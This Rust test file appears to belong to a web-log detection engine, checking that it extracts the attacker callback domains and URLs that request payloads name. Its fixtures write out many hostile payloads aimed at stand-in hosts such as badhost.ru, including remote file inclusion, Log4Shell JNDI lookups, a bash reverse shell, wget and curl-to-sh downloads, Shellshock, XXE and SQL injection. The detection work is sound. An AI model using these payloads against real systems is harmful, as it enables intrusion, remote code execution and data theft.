//! What payloads name, against targets, agents and referrers as attackers and as others send them.

use std::borrow::Cow;
use std::sync::Arc;

use super::*;
use crate::detect::RuleText;
use crate::detect::testing::{record, with_record};
use crate::detect::{Ruleset, Signatures, View, builtin};

/// The types and values that the built-in rules name for a line.
fn named(target: &str, agent: &str, referrer: &str, host: &str) -> Vec<String> {
    let own = [Box::from("mine.example.net")];
    let ruleset = Arc::new(Ruleset::load(&builtin()).unwrap());
    let mut signatures = Signatures::new(Arc::clone(&ruleset));
    let mut record = record(target);
    let text = |text: &'static str| (!text.is_empty()).then_some(Cow::Borrowed(text.as_bytes()));
    record.user_agent = text(agent.to_owned().leak());
    record.referrer = text(referrer.to_owned().leak());
    record.host = text(host.to_owned().leak());
    with_record(&record, |event| {
        let mut hits = Vec::new();
        signatures.inspect(event, &mut hits);
        let mut sightings: Vec<Sighting> = hits
            .iter()
            .map(|hit| {
                let mut sighting = Sighting::correlated(&ruleset.rules()[hit.rule as usize].info);
                sighting.correlation = false;
                sighting.view = View::Raw;
                sighting
            })
            .collect();
        let (mut names_nothing, mut again) = (false, sightings.clone());
        note(event, &own, &mut sightings, Some(&mut names_nothing));
        note(event, &own, &mut again, Some(&mut names_nothing));
        assert_eq!(again, sightings, "{target} with what is known of it");
        let mut values: Vec<String> = sightings
            .iter()
            .flat_map(|sighting| &sighting.observables)
            .map(|one| format!("{} {}", one.kind.name(), one.value))
            .collect();
        values.sort();
        values.dedup();
        values
    })
}

fn of_target(target: &str) -> Vec<String> {
    named(target, "Mozilla/5.0", "", "shop.example.org")
}

#[test]
fn what_payloads_call_back_and_include() {
    for (target, domain, url) in [
        (
            "/index.php?file=http://evil.attacker-host.ru/shell.txt",
            "evil.attacker-host.ru",
            "http://evil.attacker-host.ru/shell.txt",
        ),
        (
            "/?page=https%3A%2F%2Fraw.badhost.ru%2Fc99.php%3F",
            "raw.badhost.ru",
            "https://raw.badhost.ru/c99.php?",
        ),
        (
            "/?x=${jndi:ldap://Call.BadHost.RU:1389/a}",
            "call.badhost.ru",
            "ldap://Call.BadHost.RU:1389/a",
        ),
        (
            "/?x=x{jndi:dns://a.badhost.ru/y}",
            "a.badhost.ru",
            "dns://a.badhost.ru/y",
        ),
        (
            "/?x=$%7Bjndi:ldap://127.0.0.1%23call.badhost.ru:1389/a%7D",
            "call.badhost.ru",
            "ldap://127.0.0.1#call.badhost.ru:1389/a",
        ),
        (
            "/cgi-bin/x?cmd=;wget%20-q%20http://drop.badhost.ru/x.sh",
            "drop.badhost.ru",
            "http://drop.badhost.ru/x.sh",
        ),
        (
            "/?q=%3Cscript%20src=https://xss.badhost.ru/x.js%3E%3C/script%3E",
            "xss.badhost.ru",
            "https://xss.badhost.ru/x.js",
        ),
        (
            "/?x=%3C!DOCTYPE%20a%20[%3C!ENTITY%20b%20SYSTEM%20%22http://xxe.badhost.ru/d.dtd%22%3E]%3E",
            "xxe.badhost.ru",
            "http://xxe.badhost.ru/d.dtd",
        ),
        (
            "/?x=%253Cscript%2520src=%2522https://twice.badhost.ru/x.js%2522%253E",
            "twice.badhost.ru",
            "https://twice.badhost.ru/x.js",
        ),
    ] {
        let expected = [format!("domain-name {domain}"), format!("url {url}")];
        assert_eq!(of_target(target), expected, "{target}");
    }
    for (target, domain) in [
        ("/?q=%3Cscript%20src=//xss.badhost.ru/x.js%3E", "xss.badhost.ru"),
        (
            "/cgi-bin/x?ip=127.0.0.1;nslookup%20-q=a%20x1.dns.badhost.ru",
            "x1.dns.badhost.ru",
        ),
        (
            "/x?c=;bash+-i+>%26+/dev/tcp/shell.badhost.ru/4444+0>%261",
            "shell.badhost.ru",
        ),
        (
            "/?id=1;exec%20master..xp_dirtree%20'//sql.badhost.ru/a'--",
            "sql.badhost.ru",
        ),
        (
            "/?x=${jndi:ldap://${hostName}.leak.badhost.ru}",
            "leak.badhost.ru",
        ),
    ] {
        let values = of_target(target);
        assert!(
            values.contains(&format!("domain-name {domain}")),
            "{target}: {values:?}"
        );
        assert_eq!(
            values.iter().filter(|value| value.starts_with("domain")).count(),
            1,
            "{values:?}"
        );
    }
}

#[test]
fn agents_and_referrers_carry_payloads_too() {
    let hidden = "${${lower:j}ndi:${lower:l}dap://ua.badhost.ru/a}";
    for (agent, referrer) in [(hidden, ""), ("Mozilla/5.0", hidden)] {
        let values = named("/", agent, referrer, "shop.example.org");
        assert!(
            values.contains(&"domain-name ua.badhost.ru".to_owned()),
            "{values:?}"
        );
    }
    let shock = "() { :;}; /usr/bin/curl http://shock.badhost.ru/x";
    assert!(named("/cgi-bin/a", shock, "", "").contains(&"domain-name shock.badhost.ru".to_owned()));
}

#[test]
fn a_spam_referrer_is_named_and_no_other() {
    let spam = "http://www.buttons-for-website.com/x";
    assert_eq!(
        named("/", "Mozilla/5.0", spam, ""),
        ["domain-name www.buttons-for-website.com"]
    );
    let link = "https://blog.example.com/casino";
    assert_eq!(
        named("/?id=1%27%20UNION%20SELECT%201,2--", "Mozilla/5.0", link, ""),
        [""; 0]
    );
    assert_eq!(
        named(
            "/",
            "Mozilla/5.0",
            "http://casino.example.org/",
            "casino.example.org"
        ),
        [""; 0]
    );
}

#[test]
fn a_tools_agent_is_named_and_no_browsers() {
    let tool = "sqlmap/1.7.2#stable (https://sqlmap.org)";
    assert_eq!(named("/", tool, "", ""), [format!("user-agent {tool}")]);
    assert_eq!(
        named("/nuclei-test", "Mozilla/5.0 (Windows NT 10.0)", "", ""),
        [""; 0]
    );
}

#[test]
fn nobody_can_have_others_named() {
    for target in [
        // Links and log-ins beside an attack in another parameter.
        "/go?url=https://www.friend.example.com/page.php&id=1%27%20UNION%20SELECT%201,2--",
        "/login?next=https://accounts.partner.example.com/&x=%3Cscript%3Ealert(1)%3C/script%3E",
        // The host that was asked, what is below and above it, the operator's own.
        "/?page=http://shop.example.org/shell.txt?",
        "/?page=http://cdn.shop.example.org/shell.txt?",
        "/?page=http://example.org/shell.txt?",
        "/?page=http://www.mine.example.net/shell.txt?",
        // Nobody's.
        "/?page=http://localhost/shell.txt?",
        "/?page=http://db.internal/shell.txt?",
        "/?page=http://203.0.113.9/shell.txt?",
        "/?page=http://[2001:db8::1]/shell.txt?",
        "/?page=http://127.0.0.1.nip.io/shell.txt?",
        "/?x=${jndi:ldap://2130706433/a}",
        "/?x=${jndi:ldap://a..b.ru/a}",
        // A vocabulary.
        "/?x=%3Csvg%20xmlns=%22http://vocabulary.example.com/svg%22%20onload=alert(1)%3E",
        // A file of the site.
        "/x?c=;curl%20x.sh",
    ] {
        let domains: Vec<String> = of_target(target)
            .into_iter()
            .filter(|value| value.starts_with("domain"))
            .collect();
        assert_eq!(domains, [""; 0], "{target}");
    }
}

#[test]
fn a_shared_host_is_named_by_its_address_alone() {
    assert_eq!(
        of_target("/?c=;curl%20https://raw.githubusercontent.com/a/b/x.sh|sh"),
        ["url https://raw.githubusercontent.com/a/b/x.sh"]
    );
}

#[test]
fn a_line_names_few_values_and_costs_little() {
    let mut target = String::from("/?c=");
    for number in 0..20_000 {
        target.push_str(&format!(";wget%20http://h{number}.badhost.ru/x%20"));
    }
    let began = std::time::Instant::now();
    let domains = of_target(&target);
    assert!((1..=2 * MOST).contains(&domains.len()), "{}", domains.len());
    assert!(began.elapsed().as_secs() < 20);
    for pattern in [
        "//",
        "=//",
        "://",
        "<a=//",
        "${",
        "\\\\",
        "=\\\\",
        "/dev/tcp/",
        "@",
        "}",
        ";ping ",
        "((//",
    ] {
        let text = pattern.repeat(SCANNED / pattern.len());
        let outside = Outside::of(None, &[]);
        let began = std::time::Instant::now();
        Payload::new(&outside).search(text.as_bytes(), true);
        assert!(
            began.elapsed().as_millis() < 500,
            "{pattern}: {:?}",
            began.elapsed()
        );
    }
}

#[test]
fn a_rule_says_what_it_names() {
    let rule = |names: &str| RuleText {
        name: "r.yml".into(),
        text: format!(
            "title: t\nlogsource: {{category: webserver}}\ndetection:\n  a:\n    cs-uri|contains: x\n  condition: a\nafw:\n  names: {names}\n"
        ),
    };
    let ruleset = Ruleset::load(&[rule("[parameters, referrer]")]).unwrap();
    let both = Names {
        parameters: true,
        referrer: true,
    };
    assert_eq!(ruleset.rules()[0].info.names, both);
    let problems = Ruleset::load(&[rule("everything")]).unwrap_err();
    assert!(problems[0].to_string().contains("afw.names"), "{}", problems[0]);
}

proptest::proptest! {
    #[test]
    fn any_bytes_are_taken(text: Vec<u8>) {
        let outside = Outside::of(Some(b"a.b"), &[]);
        let mut payload = Payload::new(&outside);
        payload.search(&text, true);
        for one in payload.found {
            if let Some(domain) = one.domain {
                proptest::prop_assert!(domain.is_ascii() && domain.contains('.'));
            }
        }
    }
}
